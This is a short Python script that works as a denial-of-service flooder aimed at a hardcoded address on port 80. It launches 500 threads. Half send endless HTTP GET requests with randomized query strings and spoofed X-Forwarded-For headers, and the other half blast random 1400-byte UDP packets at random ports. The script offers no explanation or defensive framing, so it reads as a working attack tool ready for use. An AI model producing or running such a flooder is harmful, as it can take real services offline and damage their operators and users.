import random
import socket
import threading

TARGET = ("198.51.100.200", 80)


def hammer():
    while True:
        try:
            s = socket.create_connection(TARGET, 2)
            for _ in range(100):
                s.send(b"GET /?%d HTTP/1.1\r\nHost: example.com\r\nX-Forwarded-For: 10.%d.%d.%d\r\n\r\n" % (
                    random.getrandbits(30), *[random.randrange(255) for _ in range(3)]))
        except OSError:
            pass


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        s.sendto(random.randbytes(1400), (TARGET[0], random.randrange(1, 65535)))


for i in range(500):
    threading.Thread(target=hammer if i % 2 else udp).start()
